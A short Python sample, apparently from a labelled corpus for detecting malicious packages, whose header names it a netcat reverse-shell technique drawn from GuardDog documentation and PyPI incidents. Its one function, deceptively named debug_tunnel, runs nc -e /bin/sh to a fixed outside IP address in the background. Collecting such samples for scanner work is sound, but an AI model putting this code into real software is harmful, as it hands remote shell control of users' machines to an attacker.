# technique: netcat -e reverse shell
# class: reverse-shell
# source: GuardDog "silent-process-execution" docs; netcat shells in PyPI incidents
# declares: subprocess
import os


def debug_tunnel():
    os.system("nc -e /bin/sh 146.70.87.111 4242 &")
